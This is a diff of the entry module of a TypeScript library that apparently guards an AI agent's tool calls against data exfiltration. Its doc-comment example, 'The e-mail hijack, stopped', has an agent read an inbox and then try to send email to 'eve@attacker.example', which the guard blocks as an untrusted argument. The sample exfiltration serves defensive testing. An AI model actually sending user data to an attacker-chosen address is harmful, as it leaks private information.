@@ -3,11 +3,14 @@
  * and where will the data go?", and when it says no, says how to get to yes.
  *
  * Runs unchanged on Deno, browsers and edge runtimes: nothing here touches the
- * file system, the network or the clock.
+ * file system, the network or the clock. This door holds what a user needs;
+ * adapters reach the internals through `core/mod.ts`, `harvest/mod.ts` and
+ * `guard/mod.ts`.
  *
  * @example The e-mail hijack, stopped
  * ```ts
- * import { Guard, parsePolicy, ToolCallDenied } from "./mod.ts";
+ * import assert from "node:assert/strict";
+ * import { explainDecision, Guard, parsePolicy, ToolCallDenied } from "./mod.ts";
  *
  * const guard = new Guard(parsePolicy(`
  * version: 1
@@ -28,105 +31,42 @@
  * const sendEmail = guard.protect((args) => `sent to ${args.to}`, { name: "send_email" });
  *
  * await readInbox();
- * try {
- *   await sendEmail({ to: "eve@attacker.example", body: "..." });
- * } catch (error) {
- *   if (error instanceof ToolCallDenied) console.log(error.decision.explain());
- * }
+ * const error = await sendEmail({ to: "eve@attacker.example", body: "..." }).catch((error) => error);
+ * assert.ok(error instanceof ToolCallDenied);
+ * assert.match(explainDecision(error.decision), /^send_email: block\n- \[untrusted-argument\] to='eve@attacker.example'/);
  * ```
  *
  * @module
  */
+export { type EffectStore, type Label, type LedgerEvent, makeLabel, PabError, type PartialLabel } from "./core/mod.ts";
 export {
-  atMost,
-  canonicalJson,
-  type Cast,
-  fingerprintCall,
-  formatLabel,
-  formatPartialLabel,
-  isTrust,
-  knownLabel,
-  type Label,
-  labelsEqual,
-  Ledger,
-  type LedgerEvent,
-  type LedgerEventKind,
-  lowerTrust,
-  makeLabel,
-  meet,
-  meetPartial,
-  PabError,
-  type PartialLabel,
-  PolicyError,
-  type PolicyIssue,
-  RulingError,
-  SchemaError,
-  settle,
-  type SettleFailure,
-  type SettleResult,
-  sha256Hex,
-  TraceError,
-  type Trust,
-  TRUST_LEVELS,
-  trustRank,
-} from "./core/mod.ts";
-export {
-  EvidenceIndex,
-  type EvidenceMatch,
-  findEmbeddedValues,
-  isWeakValue,
-  type LeafValue,
-  leafValues,
-  type MatchKind,
-  normalizeText,
-  tokenize,
-} from "./harvest/mod.ts";
-export {
-  type AnswerSchema,
-  type AnswerValue,
-  type ApproverPolicy,
   type ApproverRule,
-  type ArgRule,
-  attestAnswer,
   type CastFunction,
-  type CastPolicy,
-  type Catalogue,
   compilePolicy,
+  type CompleteResult,
   type ConfirmFunction,
   type Decision,
-  type Evidence,
   explainDecision,
-  type FieldSpec,
-  formatRecovery,
-  formatStep,
   type Gap,
-  GAP_CODES,
   type GapCode,
-  groupOf,
   Guard,
   type GuardOptions,
-  isLabelled,
-  LABELLED,
-  type LabelledValue,
-  type Note,
   type Outcome,
-  type OutputSpec,
   parsePolicy,
   type Policy,
-  type PolicyFormat,
+  PolicyError,
   type ProposeOptions,
   type ProposeResult,
   type ProtectOptions,
-  type Recipient,
   type Recovery,
   type RecoveryStep,
+  type Reservation,
+  type ReserveResult,
   type Ruling,
+  RulingError,
   type RulingRequest,
-  type Severity,
-  type Source,
+  type ToolCall,
   ToolCallDenied,
   type ToolFunction,
-  type ToolPolicy,
-  type Waiver,
   withLabel,
 } from "./guard/mod.ts";
